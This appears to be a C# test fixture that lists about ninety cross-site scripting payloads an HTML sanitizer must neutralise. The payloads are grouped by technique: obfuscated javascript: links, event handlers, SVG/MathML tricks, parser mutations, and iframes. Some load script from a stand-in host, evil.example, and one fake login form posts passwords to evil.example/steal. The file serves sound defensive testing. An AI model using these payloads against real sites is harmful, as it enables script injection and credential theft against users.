namespace OrchardPortal.Content.Tests.Sanitizing;

/// <summary>
/// HTML that has been used to run script, load things or break out of a page, written for these
/// tests (grouped by trick). Each must lose everything dangerous in <c>HtmlSanitizer</c>.
/// </summary>
public static class XssVectors
{
    public static readonly string[] All =
    [
        // Script elements, plain and disguised
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)></script>",
        "<script type=\"module\">import 'https://evil.example/m.js'</script>",
        "<p>before<script>alert(1)//</script>after</p>",
        "<<script>alert(1);//<</script>",
        "<script\n>alert(1)</script\n>",

        // Event handlers on allowed and unknown elements
        "<img src=x onerror=alert(1)>",
        "<img src=\"/media/content/0123456789abcdef0123456789abcdef.png\" onload=\"alert(1)\">",
        "<p onclick=\"alert(1)\">click me</p>",
        "<a href=\"https://example.com\" onmouseover=\"alert(1)\">hover</a>",
        "<body onload=alert(1)>",
        "<div onpointerenter=alert(1)>x</div>",
        "<strong OnClIcK=alert(1)>x</strong>",
        "<h2 onfocus=alert(1) tabindex=1 autofocus>x</h2>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<x-widget onclick=alert(1)>custom</x-widget>",
        "<p/onclick=alert(1)>slash separator</p>",
        "<img src=x:alert(1) onerror=eval(src)>",

        // javascript:, vbscript:, data: links, with obfuscation
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"\\javascript:alert(1)\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"https://tracker.example/pixel.gif\">",
        "<img src=\"/media/../admin/secret.png\">",
        "<img srcset=\"https://evil.example/a.png 1x\" src=\"/media/content/0123456789abcdef0123456789abcdef.png\">",

        // Frames, plugins and foreign iframes
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ\"></iframe>",
        "<iframe src=\"https://evil.example/?https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>",
        "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" onload=\"alert(1)\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://player.vimeo.com/video/12345/../../evil\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<applet code=\"Evil.class\"></applet>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<portal src=\"https://evil.example/\"></portal>",

        // Forms and inputs
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<select onfocus=alert(1) autofocus><option>x</option></select>",
        "<isindex action=\"javascript:alert(1)\" type=image>",

        // Document-level elements
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<link rel=\"import\" href=\"https://evil.example/x.html\">",
        "<title>x</title><style>body{background:url(https://evil.example/x)}</style>",
        "<p style=\"background:url(javascript:alert(1))\">styled</p>",
        "<p style=\"behavior:url(https://evil.example/x.htc)\">styled</p>",
        "<p style=\"width:expression(alert(1))\">styled</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover the page</p>",

        // SVG and MathML in HTML
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<svg><animate href=\"#x\" attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
        "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",

        // Parser differentials and mutation tricks
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<noframes><img src=x onerror=alert(1)></noframes>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p title=\"&lt;img src=x onerror=alert(1)&gt;\">attribute text</p>",
        "<a href=\"https://example.com\" title=\"x&quot; onclick=&quot;alert(1)\">quote break</a>",
        "<img alt=\"`\" src=\"/media/content/0123456789abcdef0123456789abcdef.png\" onerror=alert(1)>",
        "<div id=\"x\"><form id=\"x\"></form></div>",
        "<a id=\"__proto__\" name=\"getElementById\">clobber</a>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<object><param name=\"src\" value=\"javascript:alert(1)\"></object>",
        "<dialog open onclose=alert(1)>x</dialog>",
        "<a href=\"https://example.com\" target=\"_blank\">no opener</a><a href=\"https://example.com\" target=\"_top\">top</a>",
    ];
}
